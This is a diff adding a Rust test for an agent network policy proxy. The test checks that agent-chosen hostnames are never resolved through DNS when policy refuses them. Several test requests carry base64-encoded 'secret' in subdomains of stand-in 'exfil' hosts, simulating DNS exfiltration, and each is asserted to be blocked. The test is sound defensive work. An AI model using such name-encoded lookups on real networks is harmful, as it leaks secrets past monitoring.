@@ -465,6 +465,206 @@ async fn names_the_agent_chose_are_not_looked_up_before_a_decision() {
     h.assert_no_panics();
 }
 
+// An agent whose only network is an internal API (by address) and one service through the
+// proxy; its own DNS is refused (the proxy's DNS server is 127.0.0.1:53 in these tests).
+const DNS_NET_POLICY: &str = r#"
+name: dnsnet
+agents: { cgroup: agents/dnsnet-* }
+defaults: { network: block }
+rules:
+  - id: wiki-via-proxy
+    network: { cidr: ["127.0.0.1/32"], ports: PORT, via_proxy: true }
+    verdict: allow
+    reason: The wiki, through the policy proxy.
+  - id: internal-api
+    network: { cidr: ["10.99.0.0/16"], ports: 443, protocol: tcp }
+    verdict: allow
+    reason: The internal API.
+  - id: wiki-name
+    http: { host: localhost }
+    verdict: allow
+    reason: The wiki's name.
+"#;
+
+/// The same network, and DNS of its own.
+const DNS_OWN_POLICY: &str = r#"
+name: dnsown
+agents: { cgroup: agents/dnsown-* }
+defaults: { network: block }
+rules:
+  - id: internal-api
+    network: { cidr: ["10.99.0.0/16"], ports: 443, protocol: tcp }
+    verdict: allow
+    reason: The internal API.
+  - id: dns
+    network: { cidr: ["127.0.0.1/32"], ports: 53, protocol: udp }
+    verdict: allow
+    reason: The node's resolver.
+"#;
+
+/// A name an agent chose is not resolved for a request the network rules refuse, nor for a
+/// host check the policy cannot vouch for: no DNS query carries it out of an agent whose own
+/// DNS is refused (`defaults: { network: block }`). Every way in: a CONNECT and an
+/// absolute-form request to a port no rule opens (refused for every address, unresolved) or
+/// to one opened by address only (the name would have to be resolved: refused, `builtin:dns`);
+/// transparent `Host`, TLS server name and h2c `:authority` on a connection `via_proxy` sent
+/// (the host check refuses a name it would have to look up). Controls: a name a rule names
+/// and a static address are resolved and go through; an agent that may query DNS itself has
+/// names looked up as before.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_are_not_looked_up_for_an_agent_whose_network_refuses_them() {
+    let up = upstream("wiki").await;
+    let port = up.addr.port();
+    let yaml = DNS_NET_POLICY.replace("PORT", &port.to_string());
+    let cfg = ProxyConfig {
+        dns_servers: Some(vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]),
+        ..config()
+    };
+    let h = start(cfg.clone(), parse(&yaml), Limits::default()).await;
+    let transparent = h.agent("agents/dnsnet-1", None, Some(up.addr));
+    let explicit = h.agent("agents/dnsnet-2", None, None);
+
+    // Explicit: a port no rule opens is refused by the default, without a lookup.
+    let r = h
+        .raw(
+            explicit,
+            b"CONNECT c-c2VjcmV0.exfil-5.invalid:8443 HTTP/1.1\r\nHost: c-c2VjcmV0.exfil-5.invalid:8443\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"default\""), "{r}");
+    let rec = h.last_record(|r| r.object.dest.contains("exfil-5"));
+    assert_eq!(rec.object.dest, "c-c2vjcmv0.exfil-5.invalid:8443");
+    assert!(
+        rec.reason.contains("the default for network is block"),
+        "{}",
+        rec.reason
+    );
+    let r = h
+        .raw(
+            explicit,
+            b"GET http://g-c2VjcmV0.exfil-6.invalid/ HTTP/1.1\r\nHost: g-c2VjcmV0.exfil-6.invalid\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"default\""), "{r}");
+    // A port opened for some addresses only: the name is not looked up to find out.
+    let r = h
+        .raw(
+            explicit,
+            b"CONNECT c-c2VjcmV0.exfil-7.invalid:443 HTTP/1.1\r\nHost: c-c2VjcmV0.exfil-7.invalid:443\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"builtin:dns\""), "{r}");
+    let r = h
+        .raw(
+            explicit,
+            format!("GET http://g-c2VjcmV0.exfil-8.invalid:{port}/ HTTP/1.1\r\nHost: g-c2VjcmV0.exfil-8.invalid:{port}\r\nConnection: close\r\n\r\n").as_bytes(),
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"builtin:dns\""), "{r}");
+    let rec = h.last_record(|r| r.rule == "builtin:dns");
+    assert!(
+        rec.reason.contains("may not query DNS itself"),
+        "{}",
+        rec.reason
+    );
+    // Transparent (a connect `via_proxy` sent): Host, TLS server name, h2c :authority.
+    let r = h
+        .raw(
+            transparent,
+            b"GET / HTTP/1.1\r\nHost: h-c2VjcmV0.exfil-9.invalid\r\nConnection: close\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"builtin:host-check\""), "{r}");
+    let mut s = h.connect(transparent).await;
+    s.write_all(&client_hello("s-c2vjcmv0.exfil-10.invalid", true))
+        .await
+        .unwrap();
+    let r = read_all(&mut s, Duration::from_secs(10)).await;
+    assert_eq!(r.as_bytes(), ACCESS_DENIED);
+    let rec = h.last_record(|r| r.object.url.contains("exfil-10"));
+    assert_eq!(rec.rule, "builtin:host-check");
+    let (mut tx, _conn) = h.h2c(transparent).await;
+    let req = Request::get(format!("http://a-c2vjcmv0.exfil-11.invalid:{port}/"))
+        .body(Full::new(Bytes::new()))
+        .unwrap();
+    let resp = tokio::time::timeout(Duration::from_secs(20), tx.send_request(req))
+        .await
+        .expect("answered in time")
+        .unwrap();
+    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
+    let rec = h.last_record(|r| r.object.url.contains("exfil-11"));
+    assert_eq!(rec.rule, "builtin:host-check");
+    // The decision API decides without looking anything up.
+    let r = h
+        .raw(
+            transparent,
+            format!(
+                "POST {DECIDE_PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+                r#"{"http":{"method":"GET","url":"http://d-c2vjcmv0.exfil-12.invalid/"}}"#.len(),
+                r#"{"http":{"method":"GET","url":"http://d-c2vjcmv0.exfil-12.invalid/"}}"#
+            )
+            .as_bytes(),
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
+    let looked = h.proxy.upstream.looked_up();
+    assert!(
+        !looked.iter().any(|n| n.contains("exfil")),
+        "names looked up for refused requests: {looked:?}"
+    );
+    assert!(looked.is_empty(), "{looked:?}");
+
+    // Controls. A static address (`--proxy-host`) needs no lookup and goes through.
+    let r = h
+        .send(
+            explicit,
+            Request::get(format!("http://api.payments.example:{port}/x"))
+                .body(Full::new(Bytes::new()))
+                .unwrap(),
+        )
+        .await;
+    assert_eq!(r.body["upstream"], "wiki", "{}", r.body);
+    assert!(h.proxy.upstream.looked_up().is_empty());
+    // A name a rule names is looked up once allowed, and goes through.
+    let r = h
+        .send(
+            transparent,
+            Request::get("/x")
+                .header("host", "localhost")
+                .body(Full::new(Bytes::new()))
+                .unwrap(),
+        )
+        .await;
+    assert_eq!(r.body["upstream"], "wiki", "{}", r.body);
+    assert_eq!(h.proxy.upstream.looked_up(), vec!["localhost".to_owned()]);
+    h.assert_no_panics();
+
+    // An agent that may query DNS itself: the proxy's lookup opens nothing new, and it is
+    // made as before (here the address is then refused: the record names it).
+    let h = start(cfg, parse(DNS_OWN_POLICY), Limits::default()).await;
+    let own = h.agent("agents/dnsown-1", None, None);
+    let r = h
+        .raw(
+            own,
+            b"CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n",
+        )
+        .await;
+    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
+    assert!(r.contains("\"rule\":\"default\""), "{r}");
+    assert_eq!(h.proxy.upstream.looked_up(), vec!["localhost".to_owned()]);
+    let rec = h.last_record(|r| r.object.url.contains("localhost"));
+    assert!(
+        rec.object.dest.ends_with(":443") && !rec.object.dest.starts_with("localhost"),
+        "{rec:?}"
+    );
+    h.assert_no_panics();
+}
+
 const NET_POLICY: &str = r#"
 name: net
 agents: { cgroup: agents/net-* }
